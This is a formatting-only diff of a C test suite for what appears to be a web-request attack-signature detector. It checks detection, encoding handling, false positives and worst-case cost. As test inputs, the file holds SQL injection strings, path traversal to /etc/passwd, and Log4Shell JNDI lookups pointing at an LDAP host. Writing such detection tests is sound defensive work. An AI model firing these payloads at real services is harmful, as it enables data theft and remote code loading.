@@ -118,7 +118,8 @@ static void each_part_of_a_request_is_looked_at(void **state)
 	(void)state;
 	assert_true(look(s, "/users/42'%20OR%201=1--", &hits) >= 5);
 	assert_int_equal(hits.items[0].where, SIGNATURE_PATH);
-	assert_true(look(s, "/x?a=b&c=%24%7bjndi:ldap://x/a%7d", &hits) >= 5 && has_hit(&hits, "lookup-log4j"));
+	assert_true(look(s, "/x?a=b&c=%24%7bjndi:ldap://x/a%7d", &hits) >= 5 &&
+		    has_hit(&hits, "lookup-log4j"));
 	assert_int_equal(look(s, "/users/O'Brien?q=select+union", &hits), 0);
 	static const char *const names[] = {"User-Agent", "Referer", "Cookie", "X-Forwarded-For", "X-Any"};
 	for (unsigned i = 0; i < ARRAY_SIZE(names); i++) {
@@ -241,9 +242,10 @@ static void faults_of_a_file_are_told_with_their_lines(void **state)
 static void a_hostile_head_costs_little_and_is_counted(void **state)
 {
 	static const char *const pieces[] = {
-		"' or a", "union(((", "{{{{{{", "<a <a ", "$(((", "((((((", "select a,", "'/*", "..//",
-		"[a][a]", "http://1.1.1.", "php://", "\"a\".\"a", "if a == ", "<svg/on", "${a${a", "or/**/1",
-		"case when then", "on on on=", "% in (", "` `", "for /f ", "document.", "__class__"};
+		"' or a",    "union(((", "{{{{{{",  "<a <a ",  "$(((",          "((((((",
+		"select a,", "'/*",      "..//",    "[a][a]",  "http://1.1.1.", "php://",
+		"\"a\".\"a", "if a == ", "<svg/on", "${a${a",  "or/**/1",       "case when then",
+		"on on on=", "% in (",   "` `",     "for /f ", "document.",     "__class__"};
 	const struct signatures_settings all = {.paranoia = SIGNATURE_PARANOIA_MAX};
 	struct signatures *s = make(&all);
 	static char text[60000];
@@ -261,7 +263,8 @@ static void a_hostile_head_costs_little_and_is_counted(void **state)
 		clock_gettime(CLOCK_THREAD_CPUTIME_ID, &from);
 		assert_int_equal(signatures_run(s, &r, &hits), 0);
 		clock_gettime(CLOCK_THREAD_CPUTIME_ID, &to);
-		double ms = (double)(to.tv_sec - from.tv_sec) * 1e3 + (double)(to.tv_nsec - from.tv_nsec) / 1e6;
+		double ms =
+			(double)(to.tv_sec - from.tv_sec) * 1e3 + (double)(to.tv_nsec - from.tv_nsec) / 1e6;
 		worst = ms > worst ? ms : worst;
 	}
 	print_message("60,000 hostile bytes: %.1f ms at most, %llu expressions given up on\n", worst,
@@ -336,8 +339,9 @@ static void one_critical_match_is_a_verdict_that_shows_it(void **state)
 	stage_up(&s);
 	event_unref(send(&s, "/users/O'Brien?q=drop+table", "curl/8", NULL));
 	assert_int_equal(s.verdicts, 0);
-	struct event *e = send(&s, "/x?name=hunter2secret'%20union%20select%20hunter2secret,2%20from%20hunter2users--",
-			       "curl/8", NULL);
+	struct event *e =
+		send(&s, "/x?name=hunter2secret'%20union%20select%20hunter2secret,2%20from%20hunter2users--",
+		     "curl/8", NULL);
 	assert_true(s.verdicts >= 1);
 	assert_string_equal(s.last.origin, "injection");
 	assert_int_equal(s.last.ttl_ms, TTL(10));
@@ -360,17 +364,14 @@ static void one_critical_match_is_a_verdict_that_shows_it(void **state)
 static void one_attack_is_enough_however_it_is_encoded(void **state)
 {
 	static const char *const attacks[] = {
-		"/x?q=1%27%20OR%20%271%27=%271",
-		"/x?q=1+UNION+SELECT+a",
-		"/x?q=%2527%2520or%25201%253d1",
-		"/x?f=../../../etc/passwd",
-		"/x?f=%2e%2e/%2e%2e/%2e%2e/etc/hosts",
-		"/x?a=${jndi:ldap://h/a}",
+		"/x?q=1%27%20OR%20%271%27=%271",       "/x?q=1+UNION+SELECT+a",
+		"/x?q=%2527%2520or%25201%253d1",       "/x?f=../../../etc/passwd",
+		"/x?f=%2e%2e/%2e%2e/%2e%2e/etc/hosts", "/x?a=${jndi:ldap://h/a}",
 		"/x?a=%24%7Bjndi%3aldap://h",
 	};
 	/* Words that are somebody's search, however often. */
-	static const char *const searches[] = {"/x?q=union+select+committee", "/x?q=O%27Brien", "/x?q=drop-leaf+table",
-					       "/x?q=select+all+that+apply"};
+	static const char *const searches[] = {"/x?q=union+select+committee", "/x?q=O%27Brien",
+					       "/x?q=drop-leaf+table", "/x?q=select+all+that+apply"};
 	struct stage s;
 
 	(void)state;
